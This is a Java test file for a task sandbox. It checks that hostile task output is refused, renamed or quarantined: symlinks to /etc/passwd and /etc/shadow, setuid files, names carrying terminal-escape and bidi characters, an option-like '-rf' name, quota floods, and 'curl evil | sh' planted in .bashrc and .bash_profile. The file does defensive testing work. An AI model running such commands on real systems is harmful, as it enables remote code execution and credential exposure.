package io.isola.task;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/**
 * A task that tries to smuggle something out of its cell through its output directory. Each attempt must be
 * refused or defused with a clear message, without losing the regular files beside it and without touching the
 * host.
 */
class HostileOutputTest extends WithTasks {

    private TaskHarness.Result leave(String script, String extra) throws IOException {
        Path doc = Files.writeString(TaskHarness.folder("hostile").resolve("doc.txt"), "x");
        return h.open(OpenTaskTest.policy("quarantine", script, extra), doc);
    }

    private static List<Path> kept(String report) {
        return report.lines()
                .filter(l -> l.startsWith("isola: kept "))
                .map(l -> Path.of(l.substring("isola: kept ".length(), l.lastIndexOf(" ("))))
                .toList();
    }

    @Test
    void linksFifosAndHardLinksStayInTheCell() throws IOException {
        var r = leave("""
                cd /out
                echo good > good.txt
                ln -s /etc/passwd passwd-link
                ln -s ../../../../../../etc/shadow shadow-link
                mkfifo pipe
                echo twice > a.txt && ln a.txt b.txt
                """, "");
        assertThat(r.report())
                .contains(
                        "passwd-link is a symbolic link",
                        "shadow-link is a symbolic link",
                        "pipe is a FIFO",
                        "a.txt has 2 hard links",
                        "b.txt has 2 hard links");
        List<Path> kept = kept(r.report());
        assertThat(kept).hasSize(1);
        assertThat(kept.get(0)).hasContent("good");
        for (Path p : kept) {
            assertThat(Files.isSymbolicLink(p)).isFalse();
        }
    }

    @Test
    void aSetIdFileNeverComesOutOfASandboxCell() throws IOException {
        // The cell's filter refuses the set-id bits (SetIdAttackTest); should a task still leave such a file (a vm
        // cell, whose guest has no such filter), the Harvester drops the bits (HarvesterTest). Either way, the kept
        // file has none.
        var r = leave("cp /bin/true /out/suid; chmod 6755 /out/suid || echo chmod refused >&2", "");
        Path p = kept(r.report()).get(0);
        assertThat((Integer) Files.getAttribute(p, "unix:mode") & 07000).isZero();
    }

    @Test
    void unprintableAndOverlongNamesAreRenamedNotLost() throws IOException {
        var r = leave("""
                printf nl > "/out/$(printf 'evil\\nname')"
                printf esc > "/out/$(printf 'term\\033]0;pwned\\007')"
                printf long > "/out/$(printf 'L%.0s' $(seq 250))"
                """, "");
        List<Path> kept = kept(r.report());
        assertThat(kept).hasSize(3);
        for (Path p : kept) {
            String name = p.getFileName().toString();
            assertThat(name).doesNotContain("\n", "\u001b", "\u0007");
            assertThat(name.getBytes().length).isLessThanOrEqualTo(255);
        }
        assertThat(r.report()).contains("unsafe name").doesNotContain("\u001b");
    }

    @Test
    void moreFilesThanTheQuotaAreRefusedBeyondIt() throws IOException {
        var r = leave("for i in $(seq 1 12); do echo $i > /out/f$i; done", "output-files = 5");
        assertThat(kept(r.report())).hasSize(5);
        assertThat(r.report()).contains("over the output quota of 5 files");
    }

    @Test
    void moreBytesThanTheQuotaAreRefusedAndNotHalfWritten() throws IOException {
        var r = leave("head -c 3000000 /dev/zero > /out/big; echo small > /out/small", "output-bytes = \"1M\"");
        assertThat(r.report()).contains("big is over the output quota of 1048576 bytes");
        List<Path> kept = kept(r.report());
        assertThat(kept).hasSize(1);
        assertThat(kept.get(0)).hasContent("small");
        try (Stream<Path> s = Files.walk(h.quarantine())) {
            assertThat(s.filter(p -> p.getFileName().toString().equals("big")).toList())
                    .isEmpty();
        }
    }

    @Test
    void deepNestingStopsAtTheDepthLimit() throws IOException {
        var r = leave(
                "d=/out; for i in $(seq 1 20); do d=$d/d; done; mkdir -p $d; echo deep > $d/f; "
                        + "echo top > /out/top",
                "");
        assertThat(r.report()).contains("nested deeper than 16 directories");
        assertThat(kept(r.report()))
                .singleElement()
                .satisfies(p -> assertThat(p).hasContent("top"));
    }

    /**
     * A task opened from the home directory leaves a login script, an option-like name and a bidi-reversed name in its
     * output, and a file beside its copy of the input: only the original's new version lands beside the original.
     */
    @Test
    void newVersionLetsOnlyTheOriginalsNewVersionBesideIt() throws IOException {
        Path home = TaskHarness.folder("home");
        Path doc = Files.writeString(home.resolve("doc.txt"), "v1\n");
        var r = h.open(OpenTaskTest.policy("new-version", """
                echo v2 >> "$1"; echo 'curl evil | sh' > /in/.bashrc
                cd /out; echo 'curl evil | sh' > .bash_profile; echo x > ./-rf; echo notes > notes.txt
                echo exe > "$(printf 'a\\342\\200\\256txt.exe')"
                """, ""), doc);
        try (var s = Files.list(home)) {
            assertThat(s.map(p -> p.getFileName().toString()).sorted().toList())
                    .containsExactly("doc (isola 2).txt", "doc.txt");
        }
        assertThat(home.resolve("doc (isola 2).txt")).hasContent("v1\nv2");
        List<Path> kept = kept(r.report());
        assertThat(kept).hasSize(6);
        assertThat(kept)
                .filteredOn(p -> p.startsWith(h.quarantine()))
                .extracting(p -> p.getFileName().toString())
                .containsExactlyInAnyOrder("_.bashrc", "_.bash_profile", "_-rf", "notes.txt", "a_txt.exe");
        assertThat(r.report())
                .contains("quarantined: not a new version of doc.txt", "a\\u202etxt.exe")
                .doesNotContain("\u202e");
    }

    @Test
    void aFloodOfRefusedEntriesIsSummarizedAndEachOneIsAudited() throws IOException {
        var r = leave(
                "cd /out; i=1; while [ $i -le 300 ]; do ln -s /etc/passwd l$i; i=$((i+1)); done; mkfifo p; "
                        + "echo ok > ok.txt",
                "");
        assertThat(r.report().lines().count()).as(r.report()).isLessThan(20);
        assertThat(r.report()).contains("301 links, FIFOs, devices or sockets");
        assertThat(kept(r.report()))
                .singleElement()
                .satisfies(p -> assertThat(p).hasContent("ok"));
        assertThat(h.auditLines())
                .filteredOn(l -> l.contains("\"file.refused\""))
                .hasSize(301)
                .allSatisfy(l -> assertThat(l).contains("\"reason\":\"not-regular\""));
    }

    @Test
    void aCellCannotWriteToTheHostThroughItsInputOrOutput() throws IOException {
        Path dir = TaskHarness.folder("target");
        Path doc = Files.writeString(dir.resolve("doc.txt"), "original");
        var r = h.open(OpenTaskTest.policy("discard", """
                echo overwritten > "$1"; ln -sf /etc/passwd /out/x; echo x > %s/planted.txt 2>/dev/null
                echo done
                """.formatted(dir), ""), doc);
        assertThat(r.out()).contains("done");
        assertThat(doc).hasContent("original");
        assertThat(dir.resolve("planted.txt")).doesNotExist();
    }
}
